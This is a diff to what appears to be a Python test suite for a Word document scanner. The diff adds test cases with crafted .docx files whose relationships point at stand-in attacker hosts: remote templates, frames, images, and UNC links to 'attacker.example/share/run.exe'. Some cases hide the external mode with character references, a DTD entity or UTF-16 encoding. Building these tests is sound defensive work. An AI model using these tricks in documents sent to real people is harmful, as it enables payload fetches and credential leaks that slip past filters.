@@ -40,13 +40,13 @@ def word(parts=None, overrides=(), defaults=(), document_rels=()):
              + f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/>'
              + "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in overrides)
              + "</Types>")
-    parts = {"_rels/.rels": rels(("rId1", f"{R}/officeDocument", "word/document.xml", False))} | (parts or {})
+    parts = {"_rels/.rels": rels(("rId1", f"{R}/officeDocument", "word/document.xml", False)),
+             "word/_rels/document.xml.rels": rels(*document_rels)} | (parts or {})
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", types)
         archive.writestr("word/document.xml", '<w:document xmlns:w="http://schemas.openxmlformats.org/'
                                               'wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>')
-        archive.writestr("word/_rels/document.xml.rels", rels(*document_rels))
         for name, content in parts.items():
             archive.writestr(name, content)
     return out.getvalue()
@@ -85,6 +85,15 @@ HOSTILE_DOCX = [
         ("rId1", f"{R}/frame", "https://evil.example/frame.html", True))}), EXTERNAL),
     (word(document_rels=[("rId8", f"{R}/hyperlink", "file://attacker.example/share/run.exe", True)]), EXTERNAL),
     (word(document_rels=[("rId8", f"{R}/hyperlink", "\\\\attacker.example\\share\\run.exe", True)]), EXTERNAL),
+    # The same, spelt so that a plain text search would miss it.
+    (word({"word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
+           f'Type="{R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
+           "</Relationships>"}), EXTERNAL),
+    (word({"word/_rels/document.xml.rels": f'<!DOCTYPE r [<!ENTITY x "External">]><Relationships xmlns="{PACKAGE_RELS}">'
+           f'<Relationship Id="rId1" Type="{R}/image" Target="https://evil.example/x.png" TargetMode="&x;"/>'
+           "</Relationships>"}), "不是有效的 Word"),
+    (word({"word/_rels/document.xml.rels": rels(("rId1", f"{R}/image", "https://evil.example/x.png", True))
+           .replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")}), "不是有效的 Word"),
 ]
 
 POLYGLOT = "网页"
